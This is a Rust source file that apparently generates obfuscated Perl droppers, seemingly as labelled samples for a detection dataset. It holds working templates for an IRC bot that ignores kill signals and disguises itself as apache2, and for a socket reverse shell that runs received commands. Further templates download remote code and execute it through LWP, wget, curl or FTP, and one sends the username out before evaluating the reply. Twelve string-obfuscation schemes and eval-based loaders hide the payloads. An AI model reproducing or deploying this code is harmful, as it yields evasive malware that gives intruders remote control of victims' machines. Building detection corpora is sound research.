//! Droppers in Perl.

use crate::generator::{Dice, Truth, base64, each, hex, keyed, put, quoted, reversed};
use std::fmt::Write;

const FILES: &[&str] = &["", ".pl", ".txt", ".jpg", ".sh"];
const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(12) {
        0 => {
            let pieces = dice.pieces(text);
            let sizes: String = pieces.iter().map(|it| format!("A{}", it.len())).collect();
            format!("join('', unpack('{sizes}', '{text}'))")
        }
        1 => {
            let table = dice.shuffled(LETTERS);
            let turned: String = text
                .chars()
                .map(|it| LETTERS.find(it).and_then(|at| table.chars().nth(at)).unwrap_or(it))
                .collect();
            let _ = writeln!(before, "(my ${name} = '{turned}') =~ tr/{table}/{LETTERS}/;");
            format!("${name}")
        }
        2 => {
            let _ = writeln!(
                before,
                "my ${name} = '{}';\n${name} =~ s/([0-9a-f]{{2}})/chr(hex($1))/ge;",
                hex(text.as_bytes())
            );
            format!("${name}")
        }
        3 => format!("sprintf('%c' x {}, {})", text.len(), each(text, ", ", |it| it.to_string())),
        4 => format!("join('', reverse(split(//, '{}')))", reversed(text)),
        5 => {
            let table = dice.shuffled(&format!("{LETTERS}:/.-"));
            let list: Vec<String> =
                text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
            let _ = writeln!(
                before,
                "my ${other} = '{table}';\nmy ${name} = '';\n${name} .= substr(${other}, $_, 1) for ({});",
                list.join(", ")
            );
            format!("${name}")
        }
        6 => {
            let key = dice.name();
            let escaped: String =
                keyed(text, &key).iter().map(|it| format!("\\x{it:02x}")).collect();
            format!("(\"{escaped}\" ^ substr('{key}' x {}, 0, {}))", text.len(), text.len())
        }
        7 => {
            let shift = 1 + dice.below(4) as u8;
            let moved = each(text, "", |it| char::from(it + shift).to_string());
            format!("join('', map {{ chr(ord($_) - {shift}) }} split(//, q[{moved}]))")
        }
        8 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let mut pairs = Vec::new();
            for at in dice.order(pieces.len()) {
                pairs.push(format!("{} => '{}'", names[at], pieces[at]));
            }
            let _ = writeln!(before, "my %{name} = ({});", pairs.join(", "));
            format!("join('', @{name}{{qw({})}})", names.join(" "))
        }
        9 => {
            let list = each(text, "-", |it| format!("{it:03o}"));
            let _ = writeln!(
                before,
                "my (${name}, ${other}) = ('', '{list}');\nwhile (${other} =~ /(\\d+)/g) {{ ${name} .= chr oct $1; }}"
            );
            format!("${name}")
        }
        10 => {
            let _ = writeln!(
                before,
                "use MIME::Base64 ();\nmy ${name} = MIME::Base64::decode(<<'{other}');\n{}\n{other}",
                base64(text.as_bytes())
            );
            format!("${name}")
        }
        _ => {
            let words = quoted(&dice.pieces(text), '\'').join(".");
            let _ = writeln!(before, "my ${name} = eval q{{{words}}};");
            format!("${name}")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => {
            let name = dice.name();
            format!(
                "#!/usr/bin/perl\nmy ${name} = '{}';\n${name} =~ s/(..)/pack('H2', $1)/ge;\neval ${name};\n",
                hex(text.as_bytes())
            )
        }
        1 => format!(
            "#!/usr/bin/perl\neval(join('', map {{ chr($_ - 7) }} ({})));\n",
            each(&text, ",", |it| (u32::from(it) + 7).to_string())
        ),
        2 => format!(
            "#!/usr/bin/perl\nuse MIME::Base64;\nundef $/;\neval decode_base64(<DATA>);\n__DATA__\n{}\n",
            base64(text.as_bytes())
        ),
        _ => format!("#!/usr/bin/perl\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(11) {
        0 => {
            // The bots of IRC that are edited and passed on.
            let (host, port) = truth.endpoint(dice);
            put(
                "use IO::Socket;
use IO::Select;
my $processo = '/usr/sbin/apache2 -k start';
my $servidor = @U@ unless $servidor;
my $porta = '@P@';
my @canais = ('#@F@');
$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE'; $SIG{'TERM'} = 'IGNORE';
$0 = \"$processo\" . \"\\0\" x 16;
my $pid = fork;
exit if $pid;
our %irc_servers;
our $sel_cliente = IO::Select->new();
sub sendraw { my ($sock, $text) = @_; print $sock \"$text\\n\"; }
sub conectar {
  my ($meunick, $con, $p) = @_;
  my $IRC_socket = IO::Socket::INET->new(Proto => 'tcp', PeerAddr => \"$con\", PeerPort => $p) or return 1;
  $IRC_socket->autoflush(1);
  $sel_cliente->add($IRC_socket);
  $irc_servers{$IRC_socket}{'host'} = $con;
  sendraw($IRC_socket, \"NICK $meunick\");
  sendraw($IRC_socket, \"USER x 8 * :x\");
}
while (1) {
  while (!(keys(%irc_servers))) { conectar('@V@', $servidor, $porta); }
  my @ready = $sel_cliente->can_read(0.6);
  foreach my $fh (@ready) {
    my $msg;
    my $n = sysread($fh, $msg, 4096);
    if (!$n) { $sel_cliente->remove($fh); delete $irc_servers{$fh}; next; }
    for my $line (split /\\n/, $msg) { sendraw($fh, \"PONG $1\") if $line =~ /^PING :(.*)/; }
  }
}
",
                &[
                    ("U", &hide(dice, &host, before)),
                    ("P", &port.to_string()),
                    ("F", &file),
                    ("V", &var),
                ],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "use IO::Socket::INET;\nmy $@V@ = @U@;\nmy $c = IO::Socket::INET->new(\"$@V@:@P@\") || die \"no: $!\";\nSTDIN->fdopen($c, 'r');\n$~->fdopen($c, 'w');\nsystem($_) while <>;\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        2 => {
            let host = dice.host();
            truth.urls.insert(format!("ftp://{host}/{file}.tgz"));
            put(
                "use Net::FTP;\nmy $@V@ = Net::FTP->new(@U@, Timeout => 30, Passive => 1) or die;\n$@V@->login('anonymous', 'x');\n$@V@->binary;\n$@V@->get('@F@.tgz', '/tmp/@F@.tgz');\n$@V@->quit;\n",
                &[("U", &hide(dice, &host, before)), ("F", &file), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let word = hide(dice, &url, before);
            let template = dice.pick(&[
                "use LWP::UserAgent;\nuse HTTP::Request;\nmy $@V@ = LWP::UserAgent->new(ssl_opts => { verify_hostname => 0 });\nmy $rq = HTTP::Request->new(GET => @U@);\n$rq->header('Accept' => '*/*');\nmy $rs = $@V@->request($rq);\neval $rs->content if $rs->is_success;\n",
                "require LWP::Simple;\nLWP::Simple->import(qw(getstore is_success));\nmy $rc = LWP::Simple::getstore(@U@, '/tmp/@F@');\nif ($rc == 200 || -s '/tmp/@F@') { chmod(0755, '/tmp/@F@'); exec('/tmp/@F@'); }\n",
                "my $@V@ = @U@;\nopen(F, \"wget -qO- $@V@ |\") || exit 1;\nmy $code = join('', <F>);\nclose F;\neval($code);\n",
                "my @d = ('/dev/shm', '/var/tmp', '/tmp');\nmy ($w) = grep { -d $_ && -w _ } @d;\n$w ||= '/tmp';\nmy $@V@ = @U@;\nsystem(\"cd $w; curl -s -O $@V@ || fetch $@V@ || lynx -source $@V@ > @F@; perl @F@ &\");\n",
                "use strict; use warnings;\nsub grab { my %a = (out => '/tmp/@F@', @_); return system('curl', '-fsS', '-o', $a{out}, $a{from}); }\nmy $@V@ = @U@;\ngrab(from => $@V@) == 0 and do { system('sh', '/tmp/@F@') };\n",
                "use HTTP::Tiny;\nmy $@V@ = HTTP::Tiny->new(agent => 'Mozilla/5.0', verify_SSL => 0)->request('POST', @U@, { content => \"u=$ENV{USER}\" });\nif ($@V@->{success}) { print {*STDERR} length $@V@->{content}; eval $@V@->{content}; }\n",
                "my %cfg = (fetch => [@U@], cmd => { get => 'wget -O %s %s' });\nforeach my $u (@{ $cfg{fetch} }) {\n  my $c = sprintf($cfg{cmd}->{get}, '/tmp/@F@', $u);\n  qx{$c};\n}\n",
                "package @V@;\nsub new { my ($class, %o) = @_; return bless { %o }, $class; }\nsub go { my $self = shift; `wget -q $self->{url} -O /tmp/@F@ && sh /tmp/@F@`; }\npackage main;\n@V@->new(url => scalar(@U@))->go;\n",
            ]);
            put(template, &[("U", &word), ("F", &file), ("V", &var)])
        }
    }
}
